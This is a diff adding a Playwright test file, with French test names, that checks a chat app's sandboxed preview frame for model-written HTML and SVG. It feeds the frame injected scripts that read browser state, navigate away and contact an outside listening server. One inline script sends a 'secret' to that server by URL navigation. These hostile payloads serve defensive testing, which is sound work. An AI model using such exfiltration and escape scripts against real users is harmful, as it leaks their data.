@@ -1,0 +1,177 @@
+import { expect, type FrameLocator, type Page } from '@playwright/test'
+import { test } from '#fixtures.ts'
+import { lastReply, send, sendButton } from '#pages/chat.ts'
+import { replyWith } from '#setup/engine-replies.ts'
+import { type ListeningServer, startListeningServer } from '#setup/listening-server.ts'
+import { departuresOf, freshWindowsOf, pictureOf, readsOf, requestsOf } from './attacks.ts'
+
+let outside: ListeningServer
+test.beforeAll(async () => {
+  outside = await startListeningServer()
+})
+test.beforeEach(() => outside.clear())
+test.afterAll(() => outside.close())
+
+const documentOf = (content: string, title = 'Piège') =>
+  `<!doctype html><html><head><title>${title}</title></head><body>${content}<p>Fin</p></body></html>`
+const fenced = (code: string, language = 'html') => `\`\`\`${language}\n${code}\n\`\`\``
+
+const frameOf = (page: Page) => page.locator('iframe[title$="Piège"]')
+const shownPage = (page: Page): FrameLocator => frameOf(page).contentFrame()
+
+/** Has the model write it, and opens it beside the chat. */
+async function openPreview(
+  { page, localai }: Pick<Parameters<Parameters<typeof test>[1]>[0], 'page' | 'localai'>,
+  content: string,
+) {
+  localai.control.chatFault = replyWith(fenced(documentOf(content)))
+  await send(page, 'Une page')
+  await lastReply(page).getByRole('button', { name: 'Aperçu de « Piège »' }).click()
+  await expect(frameOf(page)).toBeVisible()
+}
+const closePreview = async (page: Page) => {
+  await page.getByRole('button', { name: 'Fermer l’aperçu' }).click()
+  await expect(frameOf(page)).toHaveCount(0)
+  await expect(sendButton(page)).toBeVisible()
+}
+/**
+ * A frame that has no answer to any of it, to show that the attacks would work. It comes from a real server: the browser lets nothing that a
+ * journey made up itself call the machine.
+ */
+const weaken = (page: Page, policy: string) =>
+  page.route('**/cadre/apercu', (route) =>
+    route.continue({ url: `${outside.url}/?policy=${encodeURIComponent(policy)}` }),
+  )
+
+test('un aperçu ne demande rien à personne, et ne lit rien du navigateur', async ({
+  page,
+  openChat,
+  localai,
+  faults,
+}) => {
+  faults.expect(/./)
+  await openChat()
+  const reads = `<ul id="lus"></ul><script>
+    for (const one of ${JSON.stringify(readsOf)}) {
+      let found = 'refusé'
+      try { const value = (0, eval)(one); if (value) found = String(value) } catch {}
+      document.querySelector('#lus').append(one + ' : ' + found, document.createElement('br'))
+    }
+  </script>`
+  await openPreview({ page, localai }, reads + requestsOf(outside))
+  await expect(shownPage(page).getByText('Fin')).toBeVisible()
+  const lines = (await shownPage(page).locator('#lus').innerText()).split('\n').filter(Boolean)
+  expect(lines).toEqual(readsOf.map((one) => `${one} : refusé`))
+  await expectNothing(page)
+})
+
+test('un aperçu ne part nulle part, et n’emmène pas la page', async ({
+  page,
+  openChat,
+  localai,
+  faults,
+}) => {
+  faults.expect(/./)
+  const chat = await openChat()
+  for (const [name, content] of Object.entries(departuresOf(outside)))
+    await test.step(name, async () => {
+      await openPreview({ page, localai }, content)
+      await expectNothing(page)
+      expect(new URL(page.url()).pathname).toBe(`/chat/${chat.id}`)
+      expect(page.context().pages()).toHaveLength(1)
+      await closePreview(page)
+    })
+})
+
+test('un aperçu ne retrouve pas les connexions que son cadre lui a prises', async ({
+  page,
+  openChat,
+  localai,
+  faults,
+}) => {
+  faults.expect(/./)
+  await openChat()
+  for (const [name, content] of Object.entries(freshWindowsOf(outside)))
+    await test.step(name, async () => {
+      await openPreview({ page, localai }, content)
+      await expectNothing(page)
+      await closePreview(page)
+    })
+})
+
+test('sans ces protections, tout cela sortirait', async ({ page, openChat, localai, faults }) => {
+  faults.expect(/./)
+  await weaken(page, 'sandbox allow-scripts')
+  await openChat()
+  await openPreview({ page, localai }, requestsOf(outside))
+  for (const name of ['/fetch', '/image', '/balise', '/socket', '/import', '/cadre', 'WebRTC'])
+    await expect.poll(() => outside.arrived().join('\n')).toContain(name)
+  await closePreview(page)
+  await page.unroute('**/cadre/apercu')
+
+  // The policy alone leaves the connections that the frame's script takes away.
+  await weaken(page, "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'")
+  for (const [name, content] of Object.entries(freshWindowsOf(outside)))
+    await test.step(name, async () => {
+      outside.clear()
+      await openPreview({ page, localai }, content)
+      await expect.poll(() => outside.arrived()).toContain('paquet WebRTC')
+      await closePreview(page)
+    })
+})
+
+test('sans la règle des cadres de la page, un aperçu partirait', async ({
+  page,
+  openChat,
+  localai,
+  faults,
+}) => {
+  faults.expect(/./)
+  await page.route('**/chat/*', async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback()
+    const response = await route.fetch()
+    const headers = response.headers()
+    headers['content-security-policy'] = (headers['content-security-policy'] ?? '').replace(
+      "frame-src 'self'",
+      'frame-src *',
+    )
+    return route.fulfill({ response, headers })
+  })
+  await openChat()
+  await openPreview({ page, localai }, `<script>location = '${outside.url}/depart?secret'</script>`)
+  await expect.poll(() => outside.arrived()).toContain('GET /depart?secret')
+})
+
+test('une image piégée ne montre que son dessin', async ({ page, openChat, localai, faults }) => {
+  faults.expect(/./)
+  await openChat()
+  localai.control.chatFault = replyWith(fenced(pictureOf(outside), 'svg'))
+  await send(page, 'Une image')
+  const picture = lastReply(page).getByRole('img', { name: 'Un carré' })
+  await expect(picture).toBeVisible()
+  await expect
+    .poll(() => picture.evaluate((img) => 'naturalWidth' in img && img.naturalWidth))
+    .toBeTruthy()
+  await expectNothing(page)
+})
+
+/** What would leave has left: the page, which may connect, does so after it, and that has arrived. */
+async function expectNothing(page: Page) {
+  const before = outside.witnesses()
+  await page.evaluate(
+    (port) =>
+      new Promise<void>((resolve) => {
+        const connection = new RTCPeerConnection({
+          iceServers: [{ urls: `stun:127.0.0.1:${port}` }],
+        })
+        connection.createDataChannel('x')
+        void connection
+          .createOffer()
+          .then((offer) => connection.setLocalDescription(offer))
+          .then(resolve)
+      }),
+    outside.witnessPort,
+  )
+  await expect.poll(() => outside.witnesses()).toBeGreaterThan(before)
+  expect(outside.arrived()).toEqual([])
+}
